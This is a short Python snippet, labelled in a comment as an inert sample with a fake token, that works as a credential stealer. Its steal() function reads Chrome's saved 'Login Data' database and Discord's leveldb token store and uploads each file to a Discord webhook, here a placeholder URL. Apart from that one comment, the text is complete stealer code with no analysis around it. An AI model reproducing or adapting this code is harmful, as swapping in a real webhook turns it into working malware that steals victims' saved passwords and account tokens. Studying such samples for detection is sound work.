# INERT SAMPLE: never run. Fake token and host.
import os, requests
WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/FAKE-inert-token-0000000000000000000000"
paths = [os.path.join(os.getenv("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default", "Login Data"),
         os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")]
def steal():
    for p in paths:
        if os.path.exists(p):
            with open(p, "rb") as f:
                requests.post(WEBHOOK, files={"f": f.read()})
